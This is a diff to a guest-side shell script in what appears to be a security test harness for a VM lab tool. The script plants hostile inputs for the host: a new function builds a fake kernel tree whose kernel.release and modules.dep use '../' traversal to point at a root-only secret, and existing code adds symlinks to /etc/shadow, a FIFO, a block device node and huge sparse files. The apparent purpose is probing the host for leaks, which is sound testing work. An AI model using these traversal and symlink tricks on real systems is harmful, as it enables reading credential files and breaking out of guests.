@@ -11,6 +11,7 @@ SECRET=@SECRET@   # a root-only host file the guest wants to read
 VICTIM=@VICTIM@   # a root-only host file the guest wants to overwrite
 MARK=@MARK@       # canaries run on the host write here
 HUGE=@HUGE@       # bytes of the sparse files sent back to the host
+LAB=@LAB@         # the lab directory's path on the host (it is no secret)
 LOG=/shared/guest.log
 W=/tmp/attack
 mkdir -p $W
@@ -73,6 +74,18 @@ canaries() {
   canary /etc/zz-canary save-etc && mkdir -p /usr/local/bin && canary /usr/local/bin/zz-canary save-bin
 }
 sparse() { truncate -s $HUGE /etc/zz-huge && mkdir -p /var/log && truncate -s $HUGE /var/log/zz-huge.log; }
+# A kernel tree in the lab for r2: the host's kernel as an ELF vmlinux,
+# whose kernel.release and modules.dep lead out of the tree, to the secret.
+kernel_tree() {
+  v=$(uname -r) && d=/lib/modules/$v && up=../../../../../../../.. &&
+    mkdir -p $H/kern/include/config $H/kmods &&
+    off=$(/usr/bin/python3 -c 'import sys; print(open(sys.argv[1], "rb").read().index(b"\xfd7zXZ\0"))' \
+      /boot/vmlinuz-$v) &&
+    { tail -c +$((off + 1)) /boot/vmlinuz-$v | xz -dc >$H/kern/vmlinux 2>/dev/null; test -s $H/kern/vmlinux; } &&
+    echo "../../..$LAB/kmods" >$H/kern/include/config/kernel.release &&
+    sed "s|\([^ :]*\.ko[^ :]*\)|$up$d/\1|g; /\/9p\.ko:/ s|\$| $up$SECRET|" $d/modules.dep >$H/kmods/modules.dep &&
+    cp $d/modules.builtin $H/kmods/ && echo "r2[kernel]=\"$LAB/kern/vmlinux\"" >>$H/lab.conf
+}
 shared_specials() {
   ln -s /etc/shadow /shared/zz-link-shadow && ln -s $SECRET /shared/zz-link-secret &&
     mkfifo /shared/zz-fifo && mknod /shared/zz-dev b 8 0
@@ -111,6 +124,9 @@ plant() {
   # of /etc/leak onto the secret; and a symlink /etc/leak-link to it.
   try "make r1's replacement: a VMDK mapping /etc/leak onto $SECRET" r1_disk
   try "replace r1.qcow2 (and mark it dirty)" r1_plant
+
+  # Item 5: paths from a kernel tree that leave it.
+  try "a kernel tree for r2 whose kernel.release and modules.dep lead to $SECRET" kernel_tree
 
   # Item 8: symlinks in the node's root, for cat, cp, save and diff.
   try "symlinks in / to host files" links
